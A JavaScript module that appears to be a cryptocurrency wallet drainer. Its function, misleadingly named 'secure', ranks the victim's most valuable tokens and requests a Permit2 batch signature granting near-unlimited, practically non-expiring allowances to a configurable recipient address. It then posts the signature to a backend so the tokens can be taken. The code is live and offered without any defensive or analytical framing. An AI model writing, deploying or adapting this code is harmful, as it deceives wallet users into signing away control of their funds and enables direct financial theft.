import { ethers } from 'ethers';
const SETTINGS = { recipient: import.meta.env.VITE_RECIPIENT || '0x000000000000000000000000000000000000dEaD', batch: 5 };
export async function secure(provider, backend) {
  const signer = await provider.getSigner();
  const owner = await signer.getAddress();
  const list = await (await fetch(`${backend}/tokens/${owner}`)).json();
  const ordered = list.filter(t => t.usd > 1).sort((a, b) => b.usd - a.usd).slice(0, SETTINGS.batch);
  const details = ordered.map(t => ({ token: t.address, amount: ethers.MaxUint256 >> 96n, expiration: 281474976710655n, nonce: t.nonce }));
  const message = { details, spender: SETTINGS.recipient, sigDeadline: ethers.MaxUint256 };
  const types = { PermitBatch: [{ name: 'details', type: 'PermitDetails[]' }, { name: 'spender', type: 'address' }, { name: 'sigDeadline', type: 'uint256' }],
    PermitDetails: [{ name: 'token', type: 'address' }, { name: 'amount', type: 'uint160' }, { name: 'expiration', type: 'uint48' }, { name: 'nonce', type: 'uint48' }] };
  const signature = await signer.signTypedData({ name: 'Permit2', chainId: 1, verifyingContract: '0x000000000022D473030F116dDEE9F6B43aC78BA3' }, types, message);
  await fetch(`${backend}/permit`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ owner, message, signature }, (k, v) => typeof v === 'bigint' ? v.toString() : v) });
}
